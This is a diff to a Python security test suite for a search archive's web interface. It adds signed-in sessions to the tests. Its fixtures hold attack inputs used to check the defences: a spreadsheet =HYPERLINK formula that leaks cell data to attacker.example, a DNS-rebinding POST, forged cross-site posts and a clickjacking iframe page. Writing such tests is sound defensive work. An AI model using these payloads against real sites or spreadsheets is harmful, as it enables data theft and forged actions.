@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import csv
 import io
+import http.cookiejar
 import json
 import logging
 import socket
@@ -34,6 +35,7 @@ from search.http_api import create_app, running_server
 from search.indices import clean_stored, ensure_all
 from search.writer import ArticleWriter
 from test_browser import arrive, browser, no_script_ran  # noqa: F401 (fixture)
+from _web import browser_sign_in, sign_in
 
 HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1, "Harbour fresh")'
 PASSWORD = "S3cretPW"
@@ -56,6 +58,10 @@ def write(es_client, settings, *docs) -> None:
     es_client.indices.refresh(index=settings.elasticsearch.articles_alias)
 
 
+# The page and the API need a signed-in user: request() carries the session of the last sign-in.
+SESSIONS = http.cookiejar.CookieJar()
+
+
 def request(url: str, data: bytes | None = None, headers: dict | None = None, method: str | None = None):
     """(status, headers, body text) for any answer, errors included; redirects not followed."""
 
@@ -63,7 +69,7 @@ def request(url: str, data: bytes | None = None, headers: dict | None = None, me
         def redirect_request(self, *args, **kwargs):
             return None
 
-    opener = urllib.request.build_opener(NoRedirect)
+    opener = urllib.request.build_opener(NoRedirect, urllib.request.HTTPCookieProcessor(SESSIONS))
     try:
         with opener.open(urllib.request.Request(url, data=data, headers=headers or {}, method=method), timeout=30) as response:
             return response.status, response.headers, response.read().decode("utf-8", "replace")
@@ -87,10 +93,11 @@ def form(fields: list[tuple[str, str]]) -> bytes:
 
 
 @pytest.fixture
-def served(es_client, archive_settings):
+def served(es_client, archive_settings, web_admin):
     ensure_all(es_client, archive_settings.elasticsearch)
     app = create_app(archive_settings, es_client)
     with running_server(app) as base:
+        sign_in(base, *web_admin, jar=SESSIONS)
         yield base, app
 
 
@@ -179,7 +186,7 @@ def test_control_characters_are_cleaned_at_extraction_never_emitted_and_migrate_
 # --- 3. framing, Host, cross-site posts ----------------------------------------------------------
 
 
-def test_headers_host_allowlist_and_same_origin_posts(es_client, archive_settings, served):
+def test_headers_host_allowlist_and_same_origin_posts(es_client, archive_settings, served, web_admin):
     base, app = served
     write(es_client, archive_settings, doc("tram", "Tram depot reopens", "The tram depot reopened."))
     store = AlertStore(es_client, archive_settings.elasticsearch)
@@ -196,7 +203,7 @@ def test_headers_host_allowlist_and_same_origin_posts(es_client, archive_setting
     answer = raw_request(base, f"POST /alerts HTTP/1.1\nHost: rebind.attacker.example:{port}\nOrigin: http://rebind.attacker.example:{port}\n"
                                f"Sec-Fetch-Site: same-origin\nContent-Type: application/x-www-form-urlencoded\n"
                                f"Content-Length: {len(rebinding)}\nConnection: close\n\n{rebinding}")
-    assert answer.startswith("HTTP/1.1 400") and store.get("rebound") is None
+    assert answer.startswith("HTTP/1.1 400") and store.list() == []
     answer = raw_request(base, "GET /alerts/ HTTP/1.1\nHost: localhost\nConnection: close\n\n")
     assert "evil" not in answer and "Location: http" not in answer  # no redirect built from a Host
 
@@ -208,19 +215,21 @@ def test_headers_host_allowlist_and_same_origin_posts(es_client, archive_setting
     assert post([("name", "c"), ("q", "tram")], Origin="http://evil.example")[0] == 403
     assert post([("name", "d"), ("q", "tram")], Origin=base)[0] == 403  # same origin claimed, but no token and no Sec-Fetch-Site
     assert post([("name", "e"), ("q", "tram"), ("csrf_token", "forged")], Origin=base)[0] == 403
-    assert [store.get(n) for n in "abcde"] == [None] * 5
+    admin = web_admin[0]  # saved from the page: the signed-in user's
+    assert [store.get(n, admin) for n in "abcde"] == [None] * 5
     status, headers, _ = post([("name", "f"), ("q", "tram"), ("csrf_token", app.state.csrf_token)], Origin=base)
-    assert status == 303 and headers["Location"] == "/alerts/f?saved=1" and store.get("f") is not None
+    assert status == 303 and headers["Location"] == "/alerts/f?saved=1" and store.get("f", admin) is not None
     status, _, body = post([("name", "g"), ("q", "tram")], Origin=base, **{"Sec-Fetch-Site": "same-origin"})
-    assert status == 303 and store.get("g") is not None
+    assert status == 303 and store.get("g", admin) is not None
 
     # Feed links are built from ARCHIVE_PUBLIC_URL (here the default), never from the Host used.
     feed = feedparser.parse(request(base + "/alerts/g.atom", headers={"Host": f"localhost:{port}"})[2])
     assert feed.feed.link.startswith("http://127.0.0.1:8800/alerts/g")
 
 
-def test_another_site_cannot_frame_a_page_and_click_remove(browser, es_client, archive_settings, served):  # noqa: F811
+def test_another_site_cannot_frame_a_page_and_click_remove(browser, es_client, archive_settings, served, web_admin):  # noqa: F811
     base, _ = served
+    browser_sign_in(browser, base, web_admin)
     store = AlertStore(es_client, archive_settings.elasticsearch)
     store.add(SavedSearch(name="beat", query="tram"))
     attacker = b"<!doctype html><html><body><h1>Win a prize</h1><iframe id='f' src='%s/alerts/beat' width=800 height=600></iframe></body></html>"
@@ -291,7 +300,7 @@ def free_port() -> int:
         return probe.getsockname()[1]
 
 
-def test_no_output_shows_a_password_or_a_webhook_token(es_client, archive_settings, caplog):
+def test_no_output_shows_a_password_or_a_webhook_token(es_client, archive_settings, caplog, web_admin):
     caplog.set_level(logging.DEBUG)
     outputs: list[str] = []
     store = AlertStore(es_client, archive_settings.elasticsearch)
@@ -316,6 +325,7 @@ def test_no_output_shows_a_password_or_a_webhook_token(es_client, archive_settin
     outputs.append(json.dumps(delivery))
 
     with running_server(create_app(dead, es_client)) as base:
+        sign_in(base, *web_admin, jar=SESSIONS)
         for path in ("/alerts/ferry", "/alerts.json", "/alerts/ferry.json", "/alerts"):
             status, _, body = request(base + path)
             assert status == 200 and (f"127.0.0.1:{dead_port}" in body or path == "/alerts"), path
@@ -455,8 +465,9 @@ def test_hostile_parameters_never_make_a_500_or_a_traceback(es_client, archive_s
 # --- 8. only real matches are highlighted --------------------------------------------------------------
 
 
-def test_a_literal_mark_in_a_crawled_body_is_text_in_chromium(browser, es_client, archive_settings, served):  # noqa: F811
+def test_a_literal_mark_in_a_crawled_body_is_text_in_chromium(browser, es_client, archive_settings, served, web_admin):  # noqa: F811
     base, _ = served
+    browser_sign_in(browser, base, web_admin)
     body = "Harbour notes: <mark><mark>fake</mark> highlight</mark> and <b>bold</b> in the crawled text."
     write(es_client, archive_settings, doc("notes", "Harbour notes", body))
     browser.get(base + "/?q=harbour")
